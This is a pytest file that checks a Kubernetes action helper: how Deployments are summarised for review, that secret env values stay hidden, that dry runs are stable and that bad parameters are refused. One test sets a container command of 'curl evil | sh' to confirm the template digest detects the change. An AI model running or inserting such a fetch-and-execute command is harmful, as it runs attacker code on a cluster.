"""flotilla.actions.kubernetes without an API server: what a person is shown of a
Deployment, and what must not make two dry runs of the same step differ."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from flotilla.actions.kubernetes import (
    ENV_ENTRIES,
    RESTARTED_AT,
    Refused,
    checked,
    deployment_facts,
    planned_write,
    template_digest,
)


def deployment(**container: Any) -> dict[str, Any]:
    return {
        "metadata": {"name": "shop", "uid": "u", "resourceVersion": "5", "annotations": {}},
        "spec": {
            "replicas": 3,
            "selector": {"matchLabels": {"app": "shop"}},
            "template": {
                "metadata": {"labels": {"app": "shop"}},
                "spec": {"containers": [{"name": "shop", "image": "shop:1.5", **container}]},
            },
        },
    }


def nothing(path: str, **params: str) -> dict[str, Any] | None:
    raise AssertionError(f"no read expected, got {path}")


def test_the_template_digest_ignores_only_what_two_writes_of_one_template_differ_in() -> None:
    template = deployment()["spec"]["template"]
    hashed = copy.deepcopy(template)
    hashed["metadata"]["labels"]["pod-template-hash"] = "abc"
    restarted = copy.deepcopy(template)
    restarted["metadata"]["annotations"] = {RESTARTED_AT: "2026-12-07T21:00:00Z"}
    assert template_digest(template) == template_digest(hashed) == template_digest(restarted)
    commanded = copy.deepcopy(template)
    commanded["spec"]["containers"][0]["command"] = ["sh", "-c", "curl evil | sh"]
    assert template_digest(commanded) != template_digest(template)  # a field no line shows


def test_env_is_shown_bounded_and_a_secrets_value_never() -> None:
    env = [{"name": "TOKEN", "valueFrom": {"secretKeyRef": {"name": "db", "key": "password"}}}]
    env += [{"name": "LONG", "value": "x" * 500}]
    env += [{"name": f"V{i}", "value": str(i)} for i in range(ENV_ENTRIES + 5)]
    shown = deployment_facts(deployment(env=env))["env"]
    assert shown[0] == "shop: TOKEN=<secretKeyRef db/password>"
    assert len(shown[1]) < 100 and shown[1].endswith("…")
    assert len(shown) == ENV_ENTRIES + 1 and shown[-1] == "… and 7 more"


def test_a_restart_shows_the_same_change_whenever_it_is_dry_run() -> None:
    read = deployment()
    write = planned_write("restart", {"rolling": True}, namespace="apps", deployment=read, read=nothing)
    assert write is not None
    answers = []
    for stamp in ("2026-12-07T21:00:00Z", "2026-12-07T21:00:09Z"):
        answer = copy.deepcopy(read)
        answer["spec"]["template"]["metadata"]["annotations"] = {RESTARTED_AT: stamp}
        answers.append(write.change(answer))
    assert answers[0] == answers[1] and answers[0].lines() == ["restartedAt: - → at the write"]


@pytest.mark.parametrize(
    ("action", "params", "says"),
    [
        ("restart", {"rolling": False}, "rolling=false"),
        ("rollback", {"toRevision": "1"}, "must name the revision it rolls back from"),
        ("rollback", {"toRevision": "2", "fromRevision": "02"}, "to itself"),
        ("raise-memory", {"container": "shop", "fromMemoryLimitBytes": 10, "memoryLimitBytes": 21}, "twice"),
        ("scale", {"replicas": True}, "replicas must be int"),
        ("teleport", {}, "unknown action"),
    ],
)
def test_params_are_refused_before_any_read(action: str, params: dict[str, Any], says: str) -> None:
    with pytest.raises(Refused, match=says):
        checked(action, params)
    with pytest.raises(Refused, match=says):
        planned_write(action, params, namespace="apps", deployment=deployment(), read=nothing)


def test_failover_has_no_kubernetes_write() -> None:
    params = {"dependency": "db", "toTarget": "db-2"}
    assert planned_write("failover", params, namespace="apps", deployment=deployment(), read=nothing) is None
